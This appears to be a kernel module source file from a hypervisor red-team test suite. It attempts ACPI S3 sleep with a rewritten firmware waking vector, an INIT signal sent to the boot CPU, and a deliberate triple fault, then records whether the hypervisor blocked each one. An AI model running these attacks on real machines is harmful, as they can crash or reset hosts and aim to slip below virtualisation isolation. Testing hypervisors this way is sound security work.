// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * Attacks that the machine may not outlive: sleep, INIT to oneself, triple fault.
 */
#include <linux/acpi.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/string.h>

#include <asm/desc.h>
#include <asm/smp.h>

#include "redteam/root/attack.h"

/*
 * Where firmware jumps after the wake, in sixteen-bit mode, with the hypervisor's memory open: says
 * so on COM1 and stops. At the start of a page below 1 MiB.
 */
asm(".pushsection .rodata, \"a\"\n"
    ".code16\n"
    "wake_code:\n"
    "	cli\n"
    "	mov %cs, %ax\n"
    "	mov %ax, %ds\n"
    "	mov $wake_text - wake_code, %si\n"
    "1:	mov $0x3fd, %dx\n"
    "2:	in %dx, %al\n"
    "	test $0x20, %al\n"
    "	jz 2b\n"
    "	mov $0x3f8, %dx\n"
    "	lodsb\n"
    "	test %al, %al\n"
    "	jz 3f\n"
    "	out %al, %dx\n"
    "	jmp 1b\n"
    "3:	hlt\n"
    "	jmp 3b\n"
    "wake_text: .ascii \"\\r\\nATTACK acpi-s3: SUCCEEDED\"\n"
    "	.asciz \"(our 16-bit code ran after the wake)\\r\\n\"\n"
    "wake_code_end:\n"
    ".code64\n"
    ".popsection\n");

extern const u8 wake_code[], wake_code_end[];

#define SLEEP_ENABLE (1 << 13)
#define SLEEP_TYPE_SHIFT 10
#define RTC_ENABLE (1 << 10)

static void cmos_write(u8 index, u8 value)
{
	try_out8(0x70, index);
	try_out8(0x71, value);
}

static u8 cmos_read(u8 index)
{
	u8 value = 0;

	try_out8(0x70, index);
	try_in8(0x71, &value);
	return value;
}

/* The clock wakes the machine at its next second. */
static void arm_wake(const struct acpi_table_fadt *fadt)
{
	u16 enable = fadt->pm1a_event_block + fadt->pm1_event_length / 2;

	cmos_write(1, 0xff);
	cmos_write(3, 0xff);
	cmos_write(5, 0xff);
	cmos_write(11, cmos_read(11) | 0x20);
	cmos_read(12);
	outw(0xffff, fadt->pm1a_event_block);
	outw(inw(enable) | RTC_ENABLE, enable);
}

static bool sleep_type(u8 *type)
{
	struct acpi_buffer buffer = { ACPI_ALLOCATE_BUFFER, NULL };
	union acpi_object *package;
	bool good = false;

	if (ACPI_FAILURE(acpi_evaluate_object(NULL, "\\_S3", NULL, &buffer)))
		return false;
	package = buffer.pointer;
	if (package->type == ACPI_TYPE_PACKAGE && package->package.count > 0 &&
	    package->package.elements[0].type == ACPI_TYPE_INTEGER) {
		*type = package->package.elements[0].integer.value & 7;
		good = true;
	}
	kfree(buffer.pointer);
	return good;
}

static bool set_waking_vector(phys_addr_t vector)
{
	struct acpi_table_header *table;
	struct acpi_table_facs *facs;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_FACS, 0, &table)))
		return false;
	facs = (struct acpi_table_facs *)table;
	facs->firmware_waking_vector = vector;
	facs->xfirmware_waking_vector = 0;
	return true;
}

/* Sleep, and wake up below the hypervisor. */
static struct outcome acpi_s3(const struct attack *attack)
{
	struct acpi_table_fadt fadt = acpi_gbl_FADT;
	u8 *page = __va(low_page());
	u8 saved[256];
	u8 type = 1; /* QEMU's, if the table says nothing */
	bool told = sleep_type(&type);
	u16 control;

	BUILD_BUG_ON(sizeof(saved) < 128);
	if (!fadt.pm1a_control_block || !low_page())
		return outcome(SKIPPED, "no PM1a control register");
	memcpy(saved, page, sizeof(saved));
	memcpy(page, wake_code, min_t(size_t, wake_code_end - wake_code, sizeof(saved)));
	set_waking_vector(virt_to_phys(page));
	arm_wake(&fadt);
	control = inw(fadt.pm1a_control_block) & ~(7 << SLEEP_TYPE_SHIFT);
	outw(control | type << SLEEP_TYPE_SHIFT, fadt.pm1a_control_block);
	outw(control | type << SLEEP_TYPE_SHIFT | SLEEP_ENABLE, fadt.pm1a_control_block);
	msleep(3000);
	cmos_write(11, cmos_read(11) & ~0x20);
	memcpy(page, saved, sizeof(saved));
	return outcome(BLOCKED, "the machine did not sleep (%s S3 in the tables)",
		       told ? "there is" : "no");
}

/*
 * The boot CPU restarts at the reset vector: into firmware, with the hypervisor's memory as it is.
 */
static struct outcome init_self(const struct attack *attack)
{
	int fault;

	fault = apic_icr(per_cpu(x86_cpu_to_apicid, 0), MODE_INIT | ICR_ASSERT);
	msleep(200);
	if (fault != NO_FAULT)
		return blocked_by(fault);
	return below_hypervisor() ? outcome(BLOCKED, "ignored") : outcome(SKIPPED, "bare: ignored");
}

/* Not to be survived; what counts is that the hypervisor says so and resets in order. */
static struct outcome triple_fault(const struct attack *attack)
{
	const struct desc_ptr nothing = {};

	local_irq_disable();
	native_load_idt(&nothing);
	asm volatile("int3");
	return outcome(ERROR, "the machine goes on after a triple fault");
}

const struct attack last_attacks[] = {
	{ "acpi-s3", "the machine, by waking up below the hypervisor", acpi_s3,
	  .danger = FATAL_BARE },
	{ "init-self", "the boot CPU in firmware, with memory as it is", init_self,
	  .danger = FATAL },
	{ "triple-fault", "a CPU in shutdown under the hypervisor", triple_fault, .danger = FATAL },
	{}
};
